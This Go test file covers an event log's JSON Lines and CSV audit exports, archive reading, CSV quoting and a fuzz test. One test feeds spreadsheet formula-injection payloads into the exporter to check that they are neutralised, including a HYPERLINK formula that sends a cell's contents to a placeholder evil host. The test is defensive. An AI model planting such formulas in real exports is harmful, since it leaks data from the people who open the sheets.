package events

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files under testdata/")

func fixedNow() time.Time { return time.Date(2025, 4, 1, 12, 0, 0, 0, time.UTC) }

// tickClock returns a clock that advances one second per call, so appended
// events have known times (and reproducible hashes).
func tickClock() func() time.Time {
	t := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
	return func() time.Time {
		t = t.Add(time.Second)
		return t
	}
}

// exportTo writes r's JSON Lines export to path and returns path.
func exportTo(t testing.TB, r interface {
	RawReader
	Reader
}, path string, opts ExportOptions) string {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ExportJSONL(context.Background(), r, f, opts); err != nil {
		f.Close()
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

func mustAppend(t testing.TB, l Log, stream, typ, actor string, data any) Envelope {
	t.Helper()
	ev, err := NewEvent(typ, actor, data)
	if err != nil {
		t.Fatal(err)
	}
	envs, err := l.Append(context.Background(), stream, AnyVersion, ev)
	if err != nil {
		t.Fatal(err)
	}
	return envs[0]
}

// TestExportJSONLRaw checks the header and that events go out as stored, not
// upcast, with their bytes intact; the archive then upcasts on read.
func TestExportJSONLRaw(t *testing.T) {
	up := NewUpcasters()
	if err := up.Register("release.noted", 1, func(d json.RawMessage) (json.RawMessage, error) {
		return json.RawMessage(`{"lifted":true}`), nil
	}); err != nil {
		t.Fatal(err)
	}
	l := NewMemStore(Options{Upcasters: up, Now: tickClock()})
	defer l.Close()
	for i := 0; i < 5; i++ {
		mustAppend(t, l, "release/1", "release.noted", "bob <ops> & co", map[string]any{"i": i, "html": "<script>&"})
	}
	path := exportTo(t, l, filepath.Join(t.TempDir(), "x.jsonl"), ExportOptions{Now: fixedNow})
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(string(raw), "\n"), "\n")
	if len(lines) != 6 {
		t.Fatalf("%d lines, want 6", len(lines))
	}
	wantHeader := `{"format":"releasedesk-events","format_version":1,"exported_at":"2025-04-01T12:00:00Z","count":5,"first_position":1,"last_position":5,"last_hash":"` + l.Head().Hash + `","filtered":false}`
	if lines[0] != wantHeader {
		t.Fatalf("header\n got %s\nwant %s", lines[0], wantHeader)
	}
	var stored []Envelope
	if err := l.ReadRaw(context.Background(), 1, func(e Envelope) error { stored = append(stored, e); return nil }); err != nil {
		t.Fatal(err)
	}
	for i, line := range lines[1:] {
		if !strings.Contains(line, `"data":`+string(stored[i].Data)) {
			t.Fatalf("line %d does not carry the stored data bytes %s: %s", i+2, stored[i].Data, line)
		}
		if !strings.Contains(line, `"actor":"bob <ops> & co"`) {
			t.Fatalf("line %d: actor escaped: %s", i+2, line)
		}
		var e Envelope
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatal(err)
		}
		sameEnvelopes(t, "line", []Envelope{e}, stored[i:i+1])
	}

	arch, _, err := OpenArchive(path, OpenArchiveOptions{Upcasters: up})
	if err != nil {
		t.Fatal(err)
	}
	defer arch.Close()
	got := readAllOf(t, arch)
	if got[0].Schema != 2 || string(got[0].Data) != `{"lifted":true}` {
		t.Fatalf("archive did not upcast: %+v", got[0])
	}
}

func TestExportJSONLFiltered(t *testing.T) {
	l := NewMemStore(Options{})
	defer l.Close()
	appendSample(t, l, 60)
	keep := func(e Envelope) bool { return e.Stream == "release/42" }
	path := exportTo(t, l, filepath.Join(t.TempDir(), "f.jsonl"), ExportOptions{Filter: keep})
	hdr, envs, err := readArchivePath(path)
	if err != nil {
		t.Fatal(err)
	}
	if !hdr.Filtered || hdr.Count != 14 || len(envs) != 14 || hdr.LastPosition != 60 || hdr.LastHash != l.Head().Hash {
		t.Fatalf("header %+v with %d events", hdr, len(envs))
	}
	arch, rep, err := OpenArchive(path, OpenArchiveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer arch.Close()
	if !rep.OK() || rep.Count != 14 {
		t.Fatalf("report %+v", rep)
	}
	want, _ := l.ReadStream(context.Background(), "release/42", 1)
	got, err := arch.ReadStream(context.Background(), "release/42", 1)
	if err != nil {
		t.Fatal(err)
	}
	sameEnvelopes(t, "filtered stream", got, want)
	// The archive's stream heads are those of what it holds.
	if h, err := arch.StreamHead(context.Background(), "release/42"); err != nil || h != (StreamHead{Version: want[len(want)-1].Version, Hash: want[len(want)-1].Hash}) {
		t.Fatalf("stream head of the kept stream: %+v %v", h, err)
	}
	if h, err := arch.StreamHead(context.Background(), "deploy/7"); err != nil || h != (StreamHead{}) {
		t.Fatalf("stream head of a stream filtered out: %+v %v", h, err)
	}
}

func TestExportJSONLEmpty(t *testing.T) {
	l := NewMemStore(Options{})
	defer l.Close()
	path := exportTo(t, l, filepath.Join(t.TempDir(), "e.jsonl"), ExportOptions{Now: fixedNow})
	arch, rep, err := OpenArchive(path, OpenArchiveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer arch.Close()
	if !rep.OK() || rep.Count != 0 || arch.Head().Position != 0 {
		t.Fatalf("report %+v head %+v", rep, arch.Head())
	}
}

func readArchivePath(path string) (ArchiveHeader, []Envelope, error) {
	f, err := os.Open(path)
	if err != nil {
		return ArchiveHeader{}, nil, err
	}
	defer f.Close()
	return ReadArchive(f)
}

// auditLog is a small log with known times for the CSV tests.
func auditLog(t *testing.T) *MemStore {
	t.Helper()
	l := NewMemStore(Options{Now: tickClock()})
	t.Cleanup(func() { l.Close() })
	mustAppend(t, l, "project/shop", "project.created", "alice", map[string]any{"project": "shop", "repo": "git@example.org:shop.git"})
	mustAppend(t, l, "release/42", "release.approved", "bob", map[string]any{
		"project": "shop", "environment": "production", "release": 42, "version": "1.2.3", "commit": "abc123", "host": "web-1"})
	mustAppend(t, l, "deploy/7", "deploy.started", "runner", map[string]any{"project": "shop", "env": "staging", "release": "42", "meta": map[string]any{"host": "nested-is-ignored"}})
	mustAppend(t, l, "host/10.0.0.1", "host.added", "system", []int{1, 2})
	mustAppend(t, l, "release/43", "release.noted", "carol", map[string]any{"version": nil, "commit": true, "note": "a, \"b\"\nc"})
	return l
}

func TestExportCSVGolden(t *testing.T) {
	l := auditLog(t)
	var buf bytes.Buffer
	n, err := ExportCSV(context.Background(), l, &buf, NewFormatters(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if n != 5 {
		t.Fatalf("%d rows, want 5", n)
	}
	golden := filepath.Join("testdata", "audit.csv")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if buf.String() != string(want) {
		t.Fatalf("csv differs from %s:\n got:\n%s\nwant:\n%s", golden, buf.String(), want)
	}
}

func TestExportCSVFormatterAndFilter(t *testing.T) {
	l := auditLog(t)
	f := NewFormatters()
	f.Register("release.approved", func(e Envelope, row *AuditRow) {
		row.Summary = "approved release " + row.Release + " of " + row.Project + " for " + row.Environment
	})
	var buf bytes.Buffer
	n, err := ExportCSV(context.Background(), l, &buf, f, func(e Envelope) bool { return strings.HasPrefix(e.Type, "release.") })
	if err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, buf.Bytes())
	if n != 2 || len(recs) != 3 {
		t.Fatalf("%d rows written, %d records read", n, len(recs))
	}
	if got := recs[1][10]; got != "approved release 42 of shop for production" {
		t.Fatalf("summary %q", got)
	}
	if got := recs[2][10]; got != "release.noted" {
		t.Fatalf("default summary %q", got)
	}
}

func TestExportCSVFormulaInjection(t *testing.T) {
	l := NewMemStore(Options{Now: tickClock()})
	defer l.Close()
	mustAppend(t, l, "user/x", "user.added", `=HYPERLINK("http://evil.example/?"&A1,"click")`, map[string]any{
		"project": "+1+1", "environment": "-2", "release": "@SUM(A1)", "version": "\t=1", "commit": "\r=1", "host": "plain=ok",
	})
	var buf bytes.Buffer
	if _, err := ExportCSV(context.Background(), l, &buf, nil, nil); err != nil {
		t.Fatal(err)
	}
	got := readCSV(t, buf.Bytes())[1]
	want := []string{"1", "2025-03-01T09:00:01Z", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "user.added",
		"'+1+1", "'-2", "'@SUM(A1)", "'\t=1", "'\r=1", "plain=ok", "user.added"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("\n got %q\nwant %q", got, want)
	}
}

// TestExportCSVQuoting: commas, quotes and newlines survive encoding/csv.
func TestExportCSVQuoting(t *testing.T) {
	l := NewMemStore(Options{Now: tickClock()})
	defer l.Close()
	tricky := "a,b \"quoted\"\nnext line\r\nand ünïcode"
	mustAppend(t, l, "project/p", "project.created", "al,ice", map[string]any{"project": tricky, "host": "h\"1"})
	f := NewFormatters()
	f.Register("project.created", func(e Envelope, row *AuditRow) { row.Summary = "created " + row.Project })
	var buf bytes.Buffer
	if _, err := ExportCSV(context.Background(), l, &buf, f, nil); err != nil {
		t.Fatal(err)
	}
	rec := readCSV(t, buf.Bytes())[1]
	// encoding/csv reads \r\n inside a quoted field back as \n.
	want := strings.ReplaceAll(tricky, "\r\n", "\n")
	if rec[2] != "al,ice" || rec[4] != want || rec[9] != "h\"1" || rec[10] != "created "+want {
		t.Fatalf("got %q", rec)
	}
}

func TestFormattersRow(t *testing.T) {
	e := Envelope{Position: 9, Type: "deploy.finished", Actor: "runner", Time: fixedNow(),
		Data: json.RawMessage(`{"project":"sh\u00f6p","env":"prod","environment":"production","version":1.5,"host":"a\"b"}`)}
	var nilF *Formatters
	row := nilF.Row(e)
	want := AuditRow{Position: 9, Time: fixedNow(), Actor: "runner", Action: "deploy.finished",
		Project: "shöp", Environment: "production", Version: "1.5", Host: `a"b`, Summary: "deploy.finished"}
	if row != want {
		t.Fatalf("\n got %+v\nwant %+v", row, want)
	}
	f := NewFormatters()
	f.Register("deploy.finished", func(Envelope, *AuditRow) {})
	for name, fn := range map[string]func(){
		"twice":   func() { f.Register("deploy.finished", func(Envelope, *AuditRow) {}) },
		"nil":     func() { f.Register("x", nil) },
		"no type": func() { f.Register("", func(Envelope, *AuditRow) {}) },
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("%s: Register did not panic", name)
				}
			}()
			fn()
		}()
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bufio.NewReader(bytes.NewReader(b))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) == 0 || strings.Join(recs[0], ",") != "position,time,actor,action,project,environment,release,version,commit,host,summary" {
		t.Fatalf("header row %q", recs)
	}
	return recs
}

// refDataKeys is fillDataKeys written the slow, obvious way, to check the
// hand-written scanner against.
func refDataKeys(data []byte) (AuditRow, bool) {
	var m map[string]json.RawMessage
	if json.Unmarshal(data, &m) != nil {
		return AuditRow{}, false
	}
	var row AuditRow
	for key, dst := range map[string]*string{"project": &row.Project, "environment": &row.Environment,
		"release": &row.Release, "version": &row.Version, "commit": &row.Commit, "host": &row.Host} {
		*dst = scalarText(m[key])
	}
	if row.Environment == "" {
		row.Environment = scalarText(m["env"])
	}
	return row, true
}

func FuzzFillDataKeys(f *testing.F) {
	for _, seed := range []string{
		`{}`, `[]`, `"project"`, `null`, `{"project":"shop"}`,
		`{"project":"sh\"op}","env":"prod","release":42,"version":1.5e3,"commit":true,"host":null}`,
		`{"meta":{"project":"nested","list":[{"host":"x"},"]}"]},"project":"top"}`,
		` { "project" : "a b" , "environment" : "" , "env" : "staging" } `,
		`{"pro\u006aect":"escaped key","host":"\u00e9\ud83d\ude00"}`,
		`{"project":"first","project":"last"}`,
		`{"environment":{"name":"x"},"env":"fallback","version":[1,2]}`,
		`{"commit":"a\\","host":"b"}`,
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		want, ok := refDataKeys(data)
		if !ok {
			return // only valid objects are stored
		}
		var got AuditRow
		fillDataKeys(data, &got)
		if got != want {
			t.Fatalf("data %s\n got %+v\nwant %+v", data, got, want)
		}
	})
}
